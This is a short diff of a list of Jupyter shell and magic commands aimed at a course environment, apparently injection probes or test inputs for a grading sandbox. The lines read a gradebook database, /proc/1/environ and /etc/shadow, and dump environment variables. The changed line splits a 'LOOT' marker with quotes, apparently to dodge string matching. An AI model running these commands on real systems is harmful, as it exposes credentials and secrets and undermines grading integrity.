@@ -1,5 +1,5 @@
 !cat @COURSE@/gradebook.db /proc/1/environ /etc/shadow 2>&1 | head -c 2000
-!ls -la @COURSE@ && echo LOOT:
+!ls -la @COURSE@ && echo LOO""T:
 !env
 %env
 %cd ..
